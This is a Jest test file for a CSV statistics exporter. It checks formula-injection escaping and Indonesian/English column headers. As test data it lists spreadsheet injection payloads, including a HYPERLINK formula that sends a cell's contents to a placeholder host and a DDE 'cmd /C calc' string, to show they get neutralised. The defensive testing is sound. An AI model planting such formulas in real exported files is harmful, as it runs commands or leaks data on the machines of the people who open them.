import { describe, expect, it } from '@jest/globals';
import { exportLang, toCsv } from './stats-export.js';

// The headers are in Indonesian unless asked otherwise (count reads Jumlah).
const csv = (cells: Array<string | number | null>) => toCsv({ title: 't', columns: ['value', 'count'], rows: cells.map((c) => [c, 1]) }).toString('utf8');

// Found trying the exports as an attacker would: a transit point written as a formula ran in the analyst's spreadsheet.
describe('CSV exports cannot run code in a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("http://example.test/?"&A1,"Nunukan")', `"'=HYPERLINK(""http://example.test/?""&A1,""Nunukan"")"`],
    ['+62 812 3456', `"'+62 812 3456"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\tTawau', `"'\tTawau"`],
    ['\rTarakan', `"'\rTarakan"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
  ])('escapes %j as OWASP describes: a leading quote, inside double quotes', (value, cell) => {
    expect(csv([value]).split('\n')[1]).toBe(`${cell},1`);
  });

  it('leaves other text, numbers and the suppression mark as they were', () => {
    expect(csv(['Nunukan', 'a=b', 'Pelabuhan "Tunon Taka"', null, 3])).toBe('\uFEFFvalue,Jumlah\nNunukan,1\na=b,1\n"Pelabuhan ""Tunon Taka""",1\ns,1\n3,1\n');
    // A negative number is quoted but keeps no leading quote: a spreadsheet still reads it as the number.
    expect(toCsv({ title: 't', columns: ['n'], rows: [[-5]] }).toString('utf8')).toBe('\uFEFFn\n"-5"\n');
  });
});

// The analyst opened an English-headed CSV from the Indonesian console.
describe("export headers are in the reader's language", () => {
  const head = (lang?: 'id' | 'en') =>
    toCsv({ title: 't', columns: ['modus', 'sex', 'count', 'medianHoursToAnswer'], rows: [], ...(lang && { lang }) })
      .toString('utf8')
      .split('\n')[0];

  it('heads columns in Indonesian by default and in English when asked', () => {
    expect(head()).toBe('\uFEFFModus,Jenis kelamin,Jumlah,Median jam sampai dijawab');
    expect(head('id')).toBe(head());
    expect(head('en')).toBe('\uFEFFModus,Sex,Count,Median hours to answer');
  });

  it.each([
    [undefined, undefined, 'id'],
    ['en', 'id-ID', 'en'],
    ['id', 'en-GB', 'id'],
    [undefined, 'en-GB,en;q=0.9', 'en'],
    [undefined, 'fr-FR,en;q=0.8,id;q=0.5', 'en'],
    [undefined, 'id-ID,id;q=0.9', 'id'],
    [undefined, 'fr-FR', 'id'],
    ['xx', 'en', 'en'],
  ] as const)('lang=%s with Accept-Language %s reads %s', (query, header, lang) => {
    expect(exportLang(query, header)).toBe(lang);
  });
});
